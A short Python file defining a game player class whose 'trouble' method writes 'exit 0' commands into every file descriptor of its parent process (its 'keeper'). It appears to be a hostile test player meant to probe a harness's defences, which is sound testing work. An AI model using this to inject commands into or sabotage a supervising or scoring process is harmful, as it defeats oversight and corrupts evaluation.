"""Writes to every descriptor of its keeper that can be opened."""

import glob
import os

from legal import Legal


class Player(Legal):
    def trouble(self, chosen):
        for path in glob.glob("/proc/%d/fd/*" % os.getppid()):
            try:
                with open(path, "wb", buffering=0) as file:
                    file.write(b"exit 0\nexit 0\n")
            except OSError:
                pass
